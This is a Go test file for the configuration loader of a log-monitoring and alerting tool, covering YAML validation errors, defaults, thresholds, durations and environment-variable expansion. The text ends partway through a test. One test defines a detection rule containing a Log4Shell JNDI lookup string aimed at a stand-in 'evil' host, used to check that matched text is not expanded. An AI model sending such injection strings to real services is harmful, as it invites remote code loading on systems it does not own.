package config

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
)

// fixedEnv is the environment every test parses with, so results never
// depend on the machine running them.
var fixedEnv = map[string]string{
	"TW_SLACK_URL": "https://hooks.slack.com/services/T0/B0/secret",
	"TW_EMPTY":     "",
	"HOME":         "/home/tw",
}

func testOptions() LoadOptions {
	return LoadOptions{
		Getenv:   func(k string) (string, bool) { v, ok := fixedEnv[k]; return v, ok },
		Hostname: func() (string, error) { return "test-host", nil },
	}
}

func mustParse(t *testing.T, src string) *Config {
	t.Helper()
	c, err := ParseWith([]byte(src), "config.yaml", testOptions())
	if err != nil {
		t.Fatalf("unexpected error:\n%v\nconfig:\n%s", err, src)
	}
	return c
}

// TestBadConfigs pairs each fixture with the error it must produce,
// position included, as Prometheus's config tests do.
func TestBadConfigs(t *testing.T) {
	expected := map[string][]string{
		"unknown_key":                   {"unknown_key.bad.yml:8:5: unknown key `cooldwn` — did you mean `cooldown`?"},
		"unknown_top_key":               {"unknown_top_key.bad.yml:4:1: unknown key `rule` — did you mean `rules`?"},
		"bad_regex":                     {"bad_regex.bad.yml:6:14: rule `db_down` has an invalid pattern: missing closing ): `OperationalError (timeout`"},
		"bad_regex_lookahead":           {"bad_regex_lookahead.bad.yml:6:14: rule `not_health` has an invalid pattern: invalid or unsupported Perl syntax: `(?!`"},
		"bad_threshold":                 {"bad_threshold.bad.yml:8:16:", `invalid threshold "5 per 2s"`, `"<count> in <n><unit>"`, "ms, s, m or h", `"5 in 2s"`},
		"bad_threshold_unit":            {"bad_threshold_unit.bad.yml:7:16:", `unknown unit "d"`, `"<count> in <n><unit>"`},
		"unknown_alert":                 {"unknown_alert.bad.yml:10:22: rule `errors` refers to unknown alert `team_slak` — did you mean `team_slack`? defined alerts: `console`, `team_slack`"},
		"duplicate_rule":                {"duplicate_rule.bad.yml:8:11: duplicate rule name `errors`, first defined at line 5"},
		"pattern_and_text":              {"pattern_and_text.bad.yml:7:5: rule `errors` has both `pattern` and `text`"},
		"no_pattern_nor_text":           {"no_pattern_nor_text.bad.yml:5:5: rule `errors` has neither `pattern` nor `text`"},
		"unknown_stream_type":           {"unknown_stream_type.bad.yml:4:13: stream `logs` has unknown type `grpc` — stream types: `websocket`, `http`, `tcp`"},
		"websocket_url":                 {"websocket_url.bad.yml:5:12: stream `azure` has invalid url", "ws:// or wss://"},
		"http_url":                      {"http_url.bad.yml:5:12: stream `sse` has invalid url", "http:// or https://"},
		"tcp_url":                       {"tcp_url.bad.yml:5:12: stream `syslog` has invalid address", "`host:port`"},
		"tcp_listen":                    {"tcp_listen.bad.yml:6:12: stream `syslog_in` has invalid address \"5514\"", "`:5514` or `127.0.0.1:5514`"},
		"unknown_alert_type":            {"unknown_alert_type.bad.yml:3:11: alert `chat` has unknown type `slak` — did you mean `slack`? known types: `discord`, `email`, `ntfy`, `pagerduty`, `sendgrid`, `slack`, `stdout`, `telegram`, `webhook`"},
		"slack_missing_url":             {"slack_missing_url.bad.yml:2:3: alert `team` (type slack) is missing required key `url`"},
		"telegram_missing_chat_id":      {"telegram_missing_chat_id.bad.yml:2:3: alert `tg` (type telegram) is missing required key `chat_id`"},
		"pagerduty_missing_routing_key": {"pagerduty_missing_routing_key.bad.yml:2:3: alert `pd` (type pagerduty) is missing required key `routing_key`"},
		"ntfy_missing_topic":            {"ntfy_missing_topic.bad.yml:2:3: alert `phone` (type ntfy) is missing required key `topic`"},
		"webhook_missing_url":           {"webhook_missing_url.bad.yml:2:3: alert `hook` (type webhook) is missing required key `url`"},
		"email_missing_to":              {"email_missing_to.bad.yml:2:3: alert `mail` (type email) is missing required key `to`"},
		"sendgrid_missing_api_key":      {"sendgrid_missing_api_key.bad.yml:2:3: alert `sg` (type sendgrid) is missing required key `api_key`"},
		"key_not_for_type":              {"key_not_for_type.bad.yml:6:5: key `url` does not apply to alert `tg` of type telegram — telegram alerts take `bot_token`, `chat_id`"},
		"resources_unknown_alert":       {"resources_unknown_alert.bad.yml:7:12: resources.thresholds refers to unknown alert `pager` — defined alerts: `console`"},
		"system_check_type":             {"system_check_type.bad.yml:6:11: system check `db` has unknown type `tcp` — the only system check type is `http`"},
		"negative_cooldown":             {"negative_cooldown.bad.yml:8:15: rule `errors` has a negative cooldown -5s"},
		"stdout_format":                 {"stdout_format.bad.yml:4:13: alert `console` has unknown format `yaml` — use `text` or `json`"},
		"yaml_syntax":                   {"yaml_syntax.bad.yml:6:14: invalid YAML: could not find end character of double-quoted text"},
		"yaml_indent":                   {"yaml_indent.bad.yml:4:4: invalid YAML:"},
		"unset_env":                     {"unset_env.bad.yml:4:11: `alerts.team.url`: environment variable `TW_TEST_UNSET_SLACK_URL` is not set", "${TW_TEST_UNSET_SLACK_URL:-value}"},
		"unknown_source_stream":         {"unknown_source_stream.bad.yml:14:17: rule `errors` refers to unknown stream `azure_ap` — did you mean `azure_app`? configured streams: `azure_app`"},
		"duplicate_stream":              {"duplicate_stream.bad.yml:6:13: duplicate stream name `logs`, first used at line 3"},
		"bad_duration":                  {"bad_duration.bad.yml:8:15: `rules[0].cooldown`: invalid duration \"a minute\""},
		"wrong_shape":                   {"wrong_shape.bad.yml:2:3: `alerts` must be a mapping of keys to values, got a list", "wrong_shape.bad.yml:4:3: `rules` must be a list, got a mapping"},
		"many_errors": {
			"many_errors.bad.yml:2:3: unknown key `nmae` — did you mean `name`?\n",
			"many_errors.bad.yml:8:14: rule `one` has an invalid pattern: missing closing ]: `[unclosed`",
			"many_errors.bad.yml:12:12: rule `two` refers to unknown alert `nowhere`",
		},
	}
	files, err := filepath.Glob("testdata/*.bad.yml")
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, f := range files {
		name := strings.TrimSuffix(filepath.Base(f), ".bad.yml")
		seen[name] = true
		t.Run(name, func(t *testing.T) {
			want, ok := expected[name]
			if !ok {
				t.Fatalf("fixture %s has no expected error in TestBadConfigs", f)
			}
			_, err := LoadWith(f, testOptions())
			if err == nil {
				t.Fatalf("%s loaded without error", f)
			}
			for _, w := range want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error does not contain %q; got:\n%v", w, err)
				}
			}
			// Every error carries its position, and the first line of the
			// message is itself a complete, positioned error.
			var list ErrorList
			if !errors.As(err, &list) || len(list) == 0 {
				t.Fatalf("error is not an ErrorList: %T", err)
			}
			for _, e := range list {
				if e.File != f || e.Line <= 0 || e.Column <= 0 {
					t.Errorf("error without position: %#v", e)
				}
			}
			first, _, _ := strings.Cut(err.Error(), "\n")
			if first != list[0].Error() {
				t.Errorf("first line %q is not the first error %q", first, list[0].Error())
			}
		})
	}
	for name := range expected {
		if !seen[name] {
			t.Errorf("expected error for missing fixture testdata/%s.bad.yml", name)
		}
	}
}

func TestErrorAs(t *testing.T) {
	_, err := ParseWith([]byte("heartbeat:\n  url: http://x/\n  intervl: 5\n"), "c.yml", testOptions())
	var e *Error
	if !errors.As(err, &e) {
		t.Fatalf("errors.As(*Error) failed on %T", err)
	}
	if e.File != "c.yml" || e.Line != 3 || e.Column != 3 || e.Msg != "unknown key `intervl`" || e.Hint != "did you mean `interval`?" {
		t.Fatalf("unexpected error fields: %#v", e)
	}
	if got, want := e.Error(), "c.yml:3:3: unknown key `intervl` — did you mean `interval`?"; got != want {
		t.Fatalf("Error() = %q, want %q", got, want)
	}
}

func TestUnknownKeyHintListsKeysWhenNothingIsClose(t *testing.T) {
	_, err := ParseWith([]byte("heartbeat:\n  url: http://x/ping\n  zzzzzzzz: 1\n"), "c.yml", testOptions())
	if err == nil || !strings.Contains(err.Error(), "c.yml:3:3: unknown key `zzzzzzzz` — valid keys in `heartbeat`: `interval`, `url`") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestDefaults(t *testing.T) {
	c := mustParse(t, `
inputs:
  streams:
    - type: websocket
      url: "wss://logs.example.com/stream"
    - type: http
      url: "https://logs.example.com/sse"
    - type: tcp
      url: "localhost:514"
    - type: tcp
      listen: true
      url: ":5514"
alerts:
  console:
    type: stdout
  phone:
    type: ntfy
    topic: ops
rules:
  - name: missing
    pattern: "ERROR"
    alert: console
  - name: zero
    text: "FATAL"
    alert: console
    cooldown: 0
  - name: thirty
    text: "panic"
    alert: console
    cooldown: 30
resources:
  thresholds:
    cpu_percent: 90
    alert: console
system_checks:
  - name: api
    url: "http://localhost:8080/health"
    alert: console
heartbeat:
  url: "https://hc.example.com/ping/abc"
`)
	f := func(name string, got, want any) {
		t.Helper()
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s = %v, want %v", name, got, want)
		}
	}
	f("identity", c.Identity.Name, "test-host")
	f("cooldown missing", c.Rules[0].Cooldown, Duration(60*time.Second))
	f("cooldown: 0", c.Rules[1].Cooldown, Duration(0))
	f("cooldown: 30", c.Rules[2].Cooldown, Duration(30*time.Second))
	f("alert name", c.Alerts["console"].Name, "console")
	f("stdout format", c.Alerts["console"].Format, "text")
	f("ntfy server left to the sink", c.Alerts["phone"].Server, "")
	f("stream 0 name", c.Inputs.Streams[0].Name, "websocket:wss://logs.example.com/stream")
	f("stream 2 name", c.Inputs.Streams[2].Name, "tcp:localhost:514")
	f("reconnect", c.Inputs.Streams[0].ReconnectDelay, Duration(5*time.Second))
	f("ws idle", c.Inputs.Streams[0].IdleTimeout, Duration(60*time.Second))
	f("tcp idle", c.Inputs.Streams[2].IdleTimeout, Duration(0))
	f("http method", c.Inputs.Streams[1].Method, "GET")
	f("tcp method", c.Inputs.Streams[2].Method, "")
	f("listen protocol", c.Inputs.Streams[3].Protocol, "tcp")
	f("resources interval", c.Resources.Interval, Duration(10*time.Second))
	f("check interval", c.SystemChecks[0].Interval, Duration(30*time.Second))
	f("check timeout", c.SystemChecks[0].Timeout, Duration(5*time.Second))
	f("check missed", c.SystemChecks[0].MissedThreshold, 2)
	f("check type", c.SystemChecks[0].Type, "http")
	f("heartbeat interval", c.Heartbeat.Interval, Duration(60*time.Second))
	f("max line", c.Settings.MaxLineBytes, 65536)
	f("block", c.Settings.BlockBytes, 65536)
	f("workers", c.Settings.Workers, 0)
	f("warnings", c.Warnings, []string(nil))
}

func TestExplicitValuesKept(t *testing.T) {
	c := mustParse(t, `
identity:
  name: api-1
inputs:
  streams:
    - name: k8s
      type: websocket
      url: "wss://k8s/log"
      reconnect_delay: 0
      idle_timeout: 0
alerts:
  console:
    type: stdout
    format: json
system_checks:
  - name: api
    type: http
    url: "http://localhost:8080/health"
    interval: 1m
    timeout: 2500ms
    missed_threshold: 1
    threshold: "3 in 1m"
    alert: console
settings:
  max_line_bytes: 1024
  block_bytes: 1048576
  workers: 3
`)
	s := c.Inputs.Streams[0]
	if c.Identity.Name != "api-1" || s.Name != "k8s" || s.ReconnectDelay != 0 || s.IdleTimeout != 0 {
		t.Fatalf("explicit values lost: identity %q, stream %+v", c.Identity.Name, s)
	}
	if c.Alerts["console"].Format != "json" {
		t.Fatalf("format = %q", c.Alerts["console"].Format)
	}
	sc := c.SystemChecks[0]
	if sc.Interval != Duration(time.Minute) || sc.Timeout != Duration(2500*time.Millisecond) || sc.MissedThreshold != 1 ||
		*sc.Threshold != (Threshold{3, time.Minute}) || !slices.Equal(sc.Alert, StringList{"console"}) {
		t.Fatalf("system check = %+v", sc)
	}
	if c.Settings != (Settings{MaxLineBytes: 1024, BlockBytes: 1 << 20, Workers: 3}) {
		t.Fatalf("settings = %+v", c.Settings)
	}
}

// TestRejected covers validation errors too small for their own fixture.
func TestRejected(t *testing.T) {
	f := func(src, want string) {
		t.Helper()
		_, err := ParseWith([]byte(src), "c.yml", testOptions())
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("config:\n%s\nwant error containing %q, got %v", src, want, err)
		}
	}
	const console = "alerts:\n  console:\n    type: stdout\n"
	f(console+"rules:\n  - pattern: x\n    alert: console\n", "c.yml:5:5: rule 1 has no name")
	f(console+"rules:\n  - name: r\n    pattern: x\n", "c.yml:5:5: rule `r` has no alert")
	f(console+"rules:\n  - name: r\n    pattern: \"\"\n    alert: console\n", "c.yml:6:14: rule `r` has an empty pattern")
	f(console+"rules:\n  - name: r\n    text: x\n    alert: console\n    cooldown: 1y\n", "c.yml:8:15: `rules[0].cooldown`: invalid duration \"1y\"")
	f(console+"rules:\n  - name: r\n    text: x\n    alert: console\n    ignore_case: maybe\n", "c.yml:8:18: `rules[0].ignore_case` must be true or false")
	f(console+"rules:\n  - name: r\n    text: x\n    alert: [console, [a]]\n", "c.yml:7:22: `rules[0].alert[1]` must be a single value, got a list")
	f(console+"alerts:\n  x:\n    type: stdout\n", "c.yml:4:1: invalid YAML: mapping key \"alerts\" already defined at [1:1]")
	f("alerts:\n  m:\n    type: email\n    from: not an address\n    to: [a@example.com]\n", "c.yml:4:11: alert `m` has an invalid `from` address")
	f("alerts:\n  m:\n    type: email\n    from: a@example.com\n    to: [a@example.com]\n    smtp_server: smtp.example.com\n", "c.yml:6:18: alert `m` has an invalid smtp_server")
	f("alerts:\n  s:\n    type: slack\n    url: hooks.slack.com/x\n", "c.yml:4:10: alert `s` has an invalid URL \"hooks.slack.com/x\"")
	f("alerts:\n  s:\n    url: https://x/y\n", "c.yml:2:3: alert `s` has no type")
	f("alerts:\n  s:\n    type: slack\n    url: ${TW_EMPTY}\n", "c.yml:4:10: alert `s` (type slack) has an empty `url`")
	f("alerts:\n  s:\n    type: email\n    from: a@example.com\n    to: []\n", "c.yml:5:9: alert `s` (type email) has an empty `to`")
	f("inputs:\n  streams:\n    - type: tcp\n      url: localhost:514\n      method: POST\n", "c.yml:5:7: key `method` applies only to http streams, not tcp")
	f("inputs:\n  streams:\n    - type: tcp\n      url: localhost:514\n      headers: {A: b}\n", "c.yml:5:7: key `headers` applies only to websocket and http streams, not tcp")
	f("inputs:\n  streams:\n    - type: http\n      url: http://x/y\n      listen: true\n", "c.yml:5:7: key `listen` applies only to tcp streams, not http")
	f("inputs:\n  streams:\n    - type: tcp\n      url: localhost:514\n      protocol: udp\n", "c.yml:5:7: key `protocol` applies only to tcp streams with `listen: true`")
	f("inputs:\n  streams:\n    - type: tcp\n      listen: true\n      url: :514\n      protocol: sctp\n", "c.yml:6:17: stream 1 has unknown protocol `sctp`")
	f("inputs:\n  streams:\n    - type: http\n      url: https://x/y\n      method: get\n", "c.yml:5:15: stream 1 has invalid method \"get\"")
	f("inputs:\n  streams:\n    - type: websocket\n      url: ws://x/y\n      tls: {insecure_skip_verify: true}\n", "c.yml:5:7: stream 1 has `tls` but a ws:// URL")
	f("inputs:\n  streams:\n    - type: tcp\n      listen: true\n      url: :6514\n      tls: {ca_file: /ca.pem}\n", "stream 1 listens with tls but has no certificate")
	f("inputs:\n  streams:\n    - type: tcp\n      url: x:514\n      tls: {cert_file: /c.pem}\n", "stream 1 has only one of tls.cert_file and tls.key_file")
	f("inputs:\n  streams:\n    - type: tcp\n      url: x:514\n      reconnect_delay: -1\n", "c.yml:5:24: stream 1 has a negative reconnect_delay")
	f("inputs:\n  streams:\n    - url: x:514\n", "c.yml:3:7: stream 1 has no type")
	f("inputs:\n  streams:\n    - type: tcp\n", "c.yml:3:7: stream 1 has no url")
	f("inputs:\n  streams:\n    - type: tcp\n      url: x:99999\n", "invalid port \"99999\"")
	f("inputs:\n  files: [\"/var/log/[a.log\"]\n", "c.yml:2:11: inputs.files entry \"/var/log/[a.log\" is not a valid glob")
	f("inputs:\n  containers: [\"\"]\n", "c.yml:2:16: inputs.containers has an empty name")
	f(console+"resources:\n  thresholds:\n    cpu_percent: 150\n    alert: console\n", "c.yml:6:18: resources.thresholds.cpu_percent is 150, outside 0..100")
	f(console+"resources:\n  thresholds:\n    disk_percent: 90\n", "c.yml:5:3: resources.thresholds has no alert")
	f(console+"resources:\n  interval: 0\n  thresholds: {cpu_percent: 1, alert: console}\n", "c.yml:5:13: resources.interval must be positive")
	f(console+"system_checks:\n  - name: a\n    url: http://x/\n    alert: console\n    missed_threshold: 0\n", "c.yml:8:23: system check `a` has missed_threshold 0; it must be at least 1")
	f(console+"system_checks:\n  - name: a\n    url: http://x/\n    alert: console\n    timeout: 0\n", "c.yml:8:14: system check `a` has timeout 0s; it must be positive")
	f(console+"system_checks:\n  - name: a\n    url: localhost:8080\n    alert: console\n", "c.yml:6:10: system check `a` has an invalid URL")
	f(console+"system_checks:\n  - name: a\n    url: http://x/\n", "system check `a` has no alert")
	f(console+"system_checks:\n  - name: a\n    url: http://x/\n    alert: console\n  - name: a\n    url: http://y/\n    alert: console\n", "c.yml:8:11: duplicate system check name `a`, first defined at line 5")
	f("heartbeat:\n  interval: 5\n", "c.yml:2:3: heartbeat has no url")
	f("settings:\n  max_line_bytes: 10\n", "c.yml:2:19: settings.max_line_bytes is 10, out of range")
	f("settings:\n  block_bytes: 1000000000\n", "settings.block_bytes is 1000000000, out of range")
	f("settings:\n  workers: -1\n", "c.yml:2:12: settings.workers is -1; it must be 0 or more")
	f("- a\n- b\n", "c.yml:1:1: the document must be a mapping of keys to values, got a list")
	f("a: 1\n---\nb: 2\n", "c.yml:3:1: more than one YAML document")
	f("rules: *nowhere\n", "unknown alias")
}

// TestDecodeErrorsDoNotCascade: a value that failed to decode is reported
// once, not again as missing.
func TestDecodeErrorsDoNotCascade(t *testing.T) {
	_, err := ParseWith([]byte("alerts:\n  s:\n    type: slack\n    url: ${TW_UNSET}\n"), "c.yml", testOptions())
	var list ErrorList
	if !errors.As(err, &list) || len(list) != 1 {
		t.Fatalf("want exactly one error, got %v", err)
	}
}

func TestWarnings(t *testing.T) {
	opt := testOptions()
	opt.Glob = func(p string) ([]string, error) {
		if p == "/var/log/app/*.log" {
			return []string{"/var/log/app/a.log"}, nil
		}
		return nil, nil
	}
	c, err := ParseWith([]byte(`
inputs:
  files:
    - /var/log/app/*.log
    - /var/log/none/*.log
  containers: [api]
alerts:
  console:
    type: stdout
rules:
  - name: r
    text: x
    alert: console
    sources:
      files: ["/var/log/app/b.log", "/var/log/nginx/error.log"]
      containers: [api, worker]
`), "c.yml", opt)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`c.yml:5:7: inputs.files entry "/var/log/none/*.log" matches no file yet; it is watched until one appears`,
		`c.yml:15:37: rule ` + "`r`" + ` lists file "/var/log/nginx/error.log", which no inputs.files entry provides`,
		`c.yml:16:25: rule ` + "`r`" + ` lists container "worker", which is not in inputs.containers`,
	}
	if !slices.Equal(c.Warnings, want) {
		t.Fatalf("warnings:\n%s\nwant:\n%s", strings.Join(c.Warnings, "\n"), strings.Join(want, "\n"))
	}
}

func TestNothingToDoWarnings(t *testing.T) {
	f := func(src, want string) {
		t.Helper()
		c := mustParse(t, src)
		if !slices.Contains(c.Warnings, want) {
			t.Errorf("config:\n%s\nwarnings %q do not contain %q", src, c.Warnings, want)
		}
	}
	f("", "config.yaml:1:1: the config has no rules, resources, system_checks or heartbeat, so it never alerts")
	f("identity:\n  name: x\n", "config.yaml:1:1: the config has no rules, resources, system_checks or heartbeat, so it never alerts")
	f("alerts:\n  a: {type: stdout}\nrules:\n  - {name: r, text: x, alert: a}\n", "config.yaml:3:1: rules are defined but inputs lists no file, container or stream to match them against")
}

func TestLoadGlobWarning(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "app.log")
	if err := os.WriteFile(log, []byte("x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "c.yml")
	src := "inputs:\n  files:\n    - " + filepath.Join(dir, "*.log") + "\n    - " + filepath.Join(dir, "*.txt") + "\nheartbeat:\n  url: http://x/\n"
	if err := os.WriteFile(cfg, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := Load(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Warnings) != 1 || !strings.Contains(c.Warnings[0], cfg+":4:7: inputs.files entry") || !strings.Contains(c.Warnings[0], "*.txt") {
		t.Fatalf("warnings = %q", c.Warnings)
	}
	if c.Path != cfg {
		t.Fatalf("Path = %q", c.Path)
	}
	if _, err := Load(filepath.Join(dir, "missing.yml")); err == nil || !strings.Contains(err.Error(), "cannot read config") {
		t.Fatalf("missing file: %v", err)
	}
}

func TestAnchorsAndMergeKeys(t *testing.T) {
	c := mustParse(t, `
x-rule: &defaults
  alert: [console]
  cooldown: 10
  ignore_case: true
alerts:
  console:
    type: stdout
rules:
  - <<: *defaults
    name: a
    text: x
  - <<: *defaults
    name: b
    text: y
    cooldown: 0
  - name: c
    text: z
    alert: *console_list
    cooldown: 5
x-alerts: &console_list [console]
`)
	a, b, r := c.Rules[0], c.Rules[1], c.Rules[2]
	if a.Cooldown != Duration(10*time.Second) || !a.IgnoreCase || !slices.Equal(a.Alert, StringList{"console"}) {
		t.Errorf("merged rule a = %+v", a)
	}
	if b.Cooldown != 0 || !b.IgnoreCase {
		t.Errorf("explicit key must win over merge: rule b = %+v", b)
	}
	if !slices.Equal(r.Alert, StringList{"console"}) {
		t.Errorf("alias rule c = %+v", r)
	}
}

func TestScalarForms(t *testing.T) {
	c := mustParse(t, `
alerts:
  tg:
    type: telegram
    bot_token: "123:abc"
    chat_id: -1001234567890
  mail:
    type: email
    from: alerts@example.com
    to: oncall@example.com
rules:
  - name: block
    pattern: |-
      (?i)error
    alert: tg
`)
	if got := c.Alerts["tg"].ChatID; got != "-1001234567890" {
		t.Errorf("chat_id = %q", got)
	}
	if got := c.Alerts["mail"].To; !slices.Equal(got, []string{"oncall@example.com"}) {
		t.Errorf("to = %q", got)
	}
	if got := c.Rules[0].Pattern; got != "(?i)error" {
		t.Errorf("pattern = %q", got)
	}
}

func TestStringList(t *testing.T) {
	f := func(value string, want StringList) {
		t.Helper()
		c := mustParse(t, "alerts:\n  a: {type: stdout}\n  b: {type: stdout}\nrules:\n  - name: r\n    text: x\n    alert: "+value+"\n")
		if !slices.Equal(c.Rules[0].Alert, want) {
			t.Errorf("alert: %s decoded to %q, want %q", value, c.Rules[0].Alert, want)
		}
	}
	f("a", StringList{"a"})
	f(`"b"`, StringList{"b"})
	f("[a]", StringList{"a"})
	f("[a, b]", StringList{"a", "b"})
	f("\n      - b\n      - a", StringList{"b", "a"})
}

func TestDurationForms(t *testing.T) {
	f := func(value string, want time.Duration) {
		t.Helper()
		c := mustParse(t, "alerts:\n  a: {type: stdout}\nrules:\n  - name: r\n    text: x\n    alert: a\n    cooldown: "+value+"\n")
		if got := c.Rules[0].Cooldown.Duration(); got != want {
			t.Errorf("cooldown: %s = %v, want %v", value, got, want)
		}
	}
	f("30", 30*time.Second)
	f("0", 0)
	f("0.5", 500*time.Millisecond)
	f(`"45"`, 45*time.Second)
	f("1m30s", 90*time.Second)
	f("500ms", 500*time.Millisecond)
	f(`"2h"`, 2*time.Hour)
	f("${TW_COOLDOWN:-15}", 15*time.Second)

	bad := func(s string) {
		t.Helper()
		if d, err := ParseDuration(s); err == nil {
			t.Errorf("ParseDuration(%q) = %v, want an error", s, d)
		}
	}
	bad("")
	bad("ten")
	bad("5 minutes")
	bad("1e300")
	bad("NaN")
}

func TestParseThreshold(t *testing.T) {
	f := func(s string, count int, window time.Duration) {
		t.Helper()
		got, err := ParseThreshold(s)
		if err != nil {
			t.Errorf("ParseThreshold(%q): %v", s, err)
			return
		}
		if got != (Threshold{count, window}) {
			t.Errorf("ParseThreshold(%q) = %+v, want %d in %v", s, got, count, window)
		}
	}
	f("5 in 2s", 5, 2*time.Second)
	f("1 in 1ms", 1, time.Millisecond)
	f("3 in 1m", 3, time.Minute)
	f("10 in 24h", 10, 24*time.Hour)
	f("  5   in   2s ", 5, 2*time.Second)
	f("5 in 2 s", 5, 2*time.Second)
	f("5 IN 250ms", 5, 250*time.Millisecond)

	bad := func(s, want string) {
		t.Helper()
		_, err := ParseThreshold(s)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseThreshold(%q) error = %v, want it to contain %q", s, err, want)
		}
	}
	bad("", `"<count> in <n><unit>"`)
	bad("5", `"<count> in <n><unit>"`)
	bad("5 per 2s", `"<count> in <n><unit>"`)
	bad("5 in", `"<count> in <n><unit>"`)
	bad("0 in 2s", "must be a whole number >= 1")
	bad("-1 in 2s", "must be a whole number >= 1")
	bad("x in 2s", "must be a whole number >= 1")
	bad("5 in 0s", "longer than 0")
	bad("5 in 2", "has no unit")
	bad("5 in 2d", `unknown unit "d"`)
	bad("5 in 1.5s", `unknown unit ".5s"`)
	bad("5 in s", "must start with a whole number")
	bad("5 in 99999999999999999999h", "out of range")
	bad("5 in 9999999999h", "out of range")
}

func TestThresholdStringRoundTrip(t *testing.T) {
	f := func(th Threshold, want string) {
		t.Helper()
		if got := th.String(); got != want {
			t.Errorf("%+v.String() = %q, want %q", th, got, want)
		}
		back, err := ParseThreshold(want)
		if err != nil || back != th {
			t.Errorf("ParseThreshold(%q) = %+v, %v; want %+v", want, back, err, th)
		}
	}
	f(Threshold{5, 2 * time.Second}, "5 in 2s")
	f(Threshold{3, 90 * time.Second}, "3 in 90s")
	f(Threshold{1, 2 * time.Hour}, "1 in 2h")
	f(Threshold{7, 5 * time.Minute}, "7 in 5m")
	f(Threshold{2, 1500 * time.Millisecond}, "2 in 1500ms")
}

func TestEnvExpansion(t *testing.T) {
	f := func(in, want string) {
		t.Helper()
		got, err := expandEnv(in, testOptions().Getenv)
		if err != nil {
			t.Errorf("expandEnv(%q): %v", in, err)
			return
		}
		if got != want {
			t.Errorf("expandEnv(%q) = %q, want %q", in, got, want)
		}
	}
	f("", "")
	f("plain", "plain")
	f("${TW_SLACK_URL}", "https://hooks.slack.com/services/T0/B0/secret")
	f("$HOME/logs", "/home/tw/logs")
	f("a${HOME}b", "a/home/twb")
	f("${TW_UNSET:-fallback}", "fallback")
	f("${TW_UNSET:-}", "")
	f("${TW_EMPTY:-used when empty}", "used when empty")
	f("${TW_EMPTY}", "")
	f("${HOME:-ignored}", "/home/tw")
	f("${TW_UNSET:-http://x:8080/a}", "http://x:8080/a")
	f("$$HOME", "$HOME")
	f("cost $$5", "cost $5")
	f("error$", "error$")
	f("^(GET|POST) /api$", "^(GET|POST) /api$")
	f("$1 and $ alone", "$1 and $ alone")
	f("Bearer ${HOME}${HOME}", "Bearer /home/tw/home/tw")

	bad := func(in, want string) {
		t.Helper()
		_, err := expandEnv(in, testOptions().Getenv)
		if err == nil || !strings.Contains(err.Msg, want) {
			t.Errorf("expandEnv(%q) error = %v, want %q", in, err, want)
		}
	}
	bad("${TW_UNSET}", "environment variable `TW_UNSET` is not set")
	bad("$TW_UNSET", "environment variable `TW_UNSET` is not set")
	bad("${TW_UNSET", "unterminated `${`")
	bad("${}", "invalid variable name ``")
	bad("${1X}", "invalid variable name `1X`")
	bad("${A B}", "invalid variable name `A B`")
}

// TestNoExpansionInMatchedText: a rule's pattern, text and tests are log
// content, matched as written, as in the original.
func TestNoExpansionInMatchedText(t *testing.T) {
	c := mustParse(t, `
alerts:
  a: {type: stdout}
rules:
  - name: log4shell
    text: "${jndi:ldap"
    alert: a
    tests:
      match: ["GET /?q=${jndi:ldap://evil/a} HTTP/1.1"]
      no_match: ["$HOME $$"]
  - name: shell_vars
    pattern: '\$HOME|\$\{TW_UNSET\}'
    alert: a
`)
	r := c.Rules[0]
	if r.Text != "${jndi:ldap" || r.Tests.Match[0] != "GET /?q=${jndi:ldap://evil/a} HTTP/1.1" || r.Tests.NoMatch[0] != "$HOME $$" {
		t.Errorf("rule text or tests were expanded: %+v %+v", r, r.Tests)
	}
	if got := c.Rules[1].Pattern; got != `\$HOME|\$\{TW_UNSET\}` {
		t.Errorf("pattern = %q", got)
	}
}

// TestEnvErrorColumn: an unset variable is reported at the variable when
// its place in the source is certain, else at the start of the value.
func TestEnvErrorColumn(t *testing.T) {
	f := func(value, want string) {
		t.Helper()
		_, err := ParseWith([]byte("heartbeat:\n  url: "+value+"\n"), "c.yml", testOptions())
		if err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("url: %s\nerror %v\nwant prefix %q", value, err, want)
		}
	}
	f(`"${TW_UNSET}"`, "c.yml:2:9: `heartbeat.url`: environment variable `TW_UNSET` is not set")
	f(`https://${HOME}/$TW_UNSET`, "c.yml:2:24: `heartbeat.url`: environment variable `TW_UNSET` is not set")
	f(`"http://${TW_HOST:-x}/${TW_UNSET}"`, "c.yml:2:30: ")
	f(`'$$TW_UNSET $TW_UNSET'`, "c.yml:2:8: ")
	f(`"http://${TW_UNSET"`, "c.yml:2:16: `heartbeat.url`: unterminated `${`")
	f("|\n    http://x/\n    ${TW_UNSET}", "c.yml:2:8: ")
}

// TestEnvOnlyInValues: keys are never expanded, so a `$` in a header name
// stays and positions stay right.
func TestEnvOnlyInValues(t *testing.T) {
	c := mustParse(t, `
inputs:
  streams:
    - name: "${TW_UNSET:-sse}"
      type: http
      url: "https://logs.example.com/$HOME"
      headers:
        Authorization: "Bearer ${TW_UNSET:-dev-token}"
`)
	s := c.Inputs.Streams[0]
	if s.Name != "sse" || s.URL != "https://logs.example.com//home/tw" || s.Headers["Authorization"] != "Bearer dev-token" {
		t.Fatalf("stream = %+v", s)
	}
}

func TestSuggest(t *testing.T) {
	f := func(s string, cands []string, want string) {
		t.Helper()
		if got := suggest(s, cands); got != want {
			t.Errorf("suggest(%q) = %q, want %q", s, got, want)
		}
	}
	keys := []string{"name", "pattern", "text", "alert", "cooldown", "threshold", "sources", "ignore_case", "tests"}
	f("cooldwn", keys, "cooldown")
	f("patern", keys, "pattern")
	f("alerts", keys, "alert")
	f("Threshold", keys, "threshold")
	f("ignorecase", keys, "ignore_case")
	f("zzzzzz", keys, "")
	f("x", nil, "")
}

func TestKnownTypes(t *testing.T) {
